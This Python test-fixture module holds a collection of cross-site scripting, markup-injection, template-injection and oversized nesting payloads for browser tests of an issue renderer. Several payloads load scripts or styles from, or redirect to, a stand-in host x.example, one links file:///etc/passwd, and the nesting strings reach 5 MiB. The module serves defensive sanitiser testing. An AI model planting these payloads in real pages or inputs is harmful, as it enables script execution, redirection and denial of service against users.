"""Texts of issues that try to run, to load, to cover or to choke a page. All are our own.

Whatever runs sets `window.HIT` or opens a dialog, and whatever loads asks for `x.example`: a browser test sees
each. The word `MARK` stands in each, by which a test finds that the text is shown.
"""

from __future__ import annotations

MARK = "INTRUDER"
HIT = "window.HIT=1"
_B64 = "PHNjcmlwdD53aW5kb3cuSElUPTE8L3NjcmlwdD4="  # <script>window.HIT=1</script>

ATTACKS: dict[str, str] = {
    # scripts and what starts them
    "script": f"{MARK}<script>{HIT}</script>",
    "script_from_elsewhere": f"{MARK}<script src=//x.example/a.js></script>",
    "script_split": f"{MARK}<scr<script>ipt>{HIT}</scr</script>ipt>",
    "script_in_upper_case": f"{MARK}<SCRIPT/x>{HIT}</SCRIPT\t\n>",
    "script_after_closed_elements": f"</p></li></ol></div></pre></code></title></textarea>{MARK}<script>{HIT}</script>",
    "image_error": f"{MARK}<img src=x onerror='{HIT}'>",
    "image_error_without_spaces": f"{MARK}<img/src=x/onerror={HIT}>",
    "autofocus": f"{MARK}<input autofocus onfocus='{HIT}'><select autofocus onfocus='{HIT}'>",
    "details_toggle": f"{MARK}<details open ontoggle='{HIT}'><summary>x</summary></details>",
    "media": f"{MARK}<video><source onerror='{HIT}'></video><audio src=x onerror='{HIT}'>",
    "animation_event": f"{MARK}<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart='{HIT}'>x</b>",
    "frame": f"{MARK}<iframe srcdoc='<script>parent.HIT=1</script>'></iframe><frame src=//x.example>",
    "object_and_embed": f"{MARK}<object data='data:text/html;base64,{_B64}'></object><embed src='//x.example/a.swf'>",
    "base_and_refresh": f"{MARK}<base href='//x.example/'><meta http-equiv=refresh content='0;url=//x.example/'>",
    "form": f"{MARK}<form action='//x.example/'><button autofocus formaction='javascript:{HIT}'>Diagnose</button></form>",
    "custom_element": f"{MARK}<x-a is=x onclick='{HIT}' tabindex=1 onfocus='{HIT}' autofocus>x</x-a>",
    # links that run
    "javascript_link": f"[{MARK}](javascript:{HIT}) [{MARK}](JaVaScRiPt:{HIT})",
    "javascript_link_with_signs": f"[{MARK}](java\tscript:{HIT}) [{MARK}](&#106;avascript&colon;{HIT}) <javascript:{HIT}>",
    "javascript_link_by_reference": f"[{MARK}][r]\n\n[r]: javascript:{HIT}",
    "data_link": f"[{MARK}](data:text/html;base64,{_B64}) ![{MARK}](data:image/svg+xml;base64,{_B64})",
    "vbscript_and_file": f"[{MARK}](vbscript:x) [{MARK}](file:///etc/passwd) [{MARK}](blob:x)",
    "link_out_of_its_quotes": f"[{MARK}](https://a.example/\"onmouseover=\"{HIT}) <https://a.example/'onclick='{HIT}>",
    "title_out_of_its_quotes": f"[{MARK}](https://a.example '\" onclick={HIT} x=\"')",
    # pictures and drawings
    "remote_picture": f"![{MARK}](https://x.example/p.png) <img src='https://x.example/p.gif' srcset='//x.example/2x 2x'>",
    "svg": f"{MARK}<svg onload='{HIT}'><script>{HIT}</script><a xlink:href='javascript:{HIT}'><text>x</text></a></svg>",
    "svg_animates_a_link": f"{MARK}<svg><a><animate attributeName=href values='javascript:{HIT}'/><text y=20>x</text></a></svg>",
    "svg_foreign_object": f"{MARK}<svg><foreignObject><body onload='{HIT}'></foreignObject><use href='//x.example/a.svg#x'/></svg>",
    "mathml": f"{MARK}<math><mtext><table><mglyph><style><img src=x onerror='{HIT}'></style></mglyph></table></mtext></math>",
    "mathml_link": f"{MARK}<math href='javascript:{HIT}'><maction actiontype='statusline#//x.example' xlink:href='javascript:{HIT}'>x</maction></math>",
    # styles that load, cover or read
    "style": f"{MARK}<style>@import '//x.example/a.css';body{{background:url(//x.example/b)}}*{{display:none!important}}</style>",
    "style_sheet": f"{MARK}<link rel=stylesheet href=//x.example/a.css><link rel=preload as=image href=//x.example/p>",
    "style_covers_the_page": f"<div style='position:fixed;inset:0;z-index:99;background:url(//x.example/p)'>{MARK}</div>",
    "style_hides_the_rest": f"{MARK}<!-- --!><style>x</style><plaintext>\n<xmp>\n<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    # Markdown against itself
    "markdown_in_code": f"`` `<img src=x onerror={HIT}>` `` {MARK}\n\n```html\n</code></pre><script>{HIT}</script>\n```",
    "markdown_link_in_link": f'[a [{MARK}](https://a.example) ![x](x "<script>{HIT}</script>")](javascript:{HIT})',
    "markdown_table": f"| {MARK} | <script>{HIT}</script> |\n|---|:-:|\n| [x](javascript:{HIT}) | `|` <img src=x onerror={HIT}> |",
    # templates, entities, unseen signs
    "template": f"{MARK} {{{{ 7*7 }}}} {{% raw %}} ${{7*7}} #{{7*7}} <%= 7*7 %> {{{{ self.__init__.__globals__ }}}} [[${{7*7}}]]",
    "entities": f"{MARK} &lt;script&gt;{HIT}&lt;/script&gt; &#60;img src=x onerror={HIT}&#62; &amp;lt;b&amp;gt; &NotAnEntity; &#0; &#xD800;",
    "direction": f"\u202e\u2066{MARK}\u2069\u202c \u202egnp.exe \u200f\u061c\u2067 not closed",
    "control_and_null": f"<scr\x00ipt>{HIT}</script>{MARK}\x1b[31m\x07\x7f\ufffe <\x0bimg src=x onerror={HIT}>",
    "mutation": f"{MARK}<noscript><style></noscript><img src=x onerror={HIT}></style><p id='--><img src=x onerror={HIT}>'>",
    # longer than a page
    "long_word": MARK + "W" * 60_000,
    "combining_signs": MARK + ("e" + "\u0301" * 200) * 200,
}

_MANY = 5 * 1024 * 1024
NESTINGS: dict[str, str] = {
    "quotes": f"{MARK}\n" + "> " * (_MANY // 2) + "x",
    "lists": f"{MARK}\n" + "\n".join("  " * n + "- x" for n in range(2200)),
    "elements": MARK + "<div><b><table>" * (_MANY // 15),
    "brackets": MARK + "[" * (_MANY // 2) + "](" * (_MANY // 4),
    "emphasis": MARK + "*a _b **c " * (_MANY // 10),
    "entities": MARK + "&amp;" * (_MANY // 5),
}
"""5 MiB each: far more than GitHub lets an issue be."""

MARKUP = ATTACKS | {"nested_to_the_limit": f"{MARK}\n" + ">" * 9_000 + "\n" + "* " * 5_000}
